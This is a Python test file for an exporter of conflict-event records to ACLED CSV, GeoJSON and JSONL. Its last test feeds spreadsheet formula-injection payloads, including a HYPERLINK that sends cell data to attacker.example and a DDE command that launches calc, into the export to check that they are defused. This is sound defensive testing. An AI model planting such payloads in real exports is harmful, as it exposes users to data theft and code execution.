"""Exports: ACLED CSV columns, honest GeoJSON geometry, lossless JSONL."""

from __future__ import annotations

import csv
import io
import json

from conftest import build_canonical

from sitrep.export import ACLED_COLUMNS, iter_acled_csv, iter_geojson, iter_jsonl
from sitrep.model import CanonicalEvent, Event, Span


def test_acled_csv_has_acled_columns_first_and_one_row_per_event() -> None:
    events = [build_canonical(i) for i in range(450)]  # more than one chunk
    text = "".join(iter_acled_csv(events))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 450
    header = next(csv.reader(io.StringIO(text)))
    assert tuple(header[: len(ACLED_COLUMNS)]) == tuple(
        Event(id="", doc_id="", event_type="", sub_event_type="").acled_row()
    )
    first = rows[0]
    assert first["event_id_cnty"] == events[0].id
    assert first["event_date"] == events[0].event.event_date.isoformat()  # type: ignore[union-attr]
    assert first["sitrep_external_ids"] == "ext-0"
    assert first["source"] == "Test Wire"
    assert int(first["fatalities"]) == 0
    assert first["year"] == "2023" and first["disorder_type"] == "Political violence"
    assert first["iso"] == ""  # the synthetic place has no country code
    events[1].event.place.country_code = "UA"  # type: ignore[union-attr]
    second = next(csv.DictReader(io.StringIO("".join(iter_acled_csv(events[1:2])))))
    assert second["iso"] == "804"


def test_acled_csv_of_nothing_is_just_the_header() -> None:
    assert "".join(iter_acled_csv([])).strip().split(",")[0] == "event_id_cnty"


def test_geojson_has_no_point_for_events_without_coordinates() -> None:
    events = [build_canonical(i) for i in range(5)]  # n=4 is "Somewhere", no coordinates
    doc = json.loads("".join(iter_geojson(events)))
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == 5
    by_id = {f["id"]: f for f in doc["features"]}
    assert by_id[events[4].id]["geometry"] is None
    assert by_id[events[4].id]["properties"]["geo_precision"] == 3
    assert by_id[events[0].id]["geometry"] == {"type": "Point", "coordinates": [36.25, 49.98]}  # lon, lat
    assert by_id[events[0].id]["properties"]["external_ids"] == ["ext-0"]


def test_geojson_streams_valid_json_for_many_and_for_none() -> None:
    assert json.loads("".join(iter_geojson([])))["features"] == []
    many = json.loads("".join(iter_geojson(build_canonical(i) for i in range(401))))
    assert len(many["features"]) == 401


def test_jsonl_round_trips() -> None:
    events = [build_canonical(i) for i in range(3)]
    lines = "".join(iter_jsonl(events)).splitlines()
    assert [CanonicalEvent.from_json(line) for line in lines] == events


def test_acled_csv_defuses_spreadsheet_formulas_from_untrusted_text() -> None:
    # An outlet name, an external id and an evidence sentence all come from the input: a cell
    # that a spreadsheet would run as a formula must arrive as text, numbers stay numbers.
    ce = build_canonical(0)
    ce.outlets = ['=HYPERLINK("http://attacker.example/?"&A1,"open")']
    ce.external_ids = ["@SUM(1+1)"]
    ce.event.evidence = [Span(0, 17, "+cmd|' /C calc'!A0")]
    ce.event.place.longitude = -1.5  # type: ignore[union-attr]
    row = next(csv.DictReader(io.StringIO("".join(iter_acled_csv([ce])))))
    assert row["source"].startswith("'=HYPERLINK(") and row["sitrep_outlets"].startswith("'=")
    assert row["sitrep_external_ids"] == "'@SUM(1+1)"
    assert row["notes"] == "'+cmd|' /C calc'!A0"
    assert row["longitude"] == "-1.5"
    assert all(not value.startswith(("=", "+", "@")) for value in row.values())
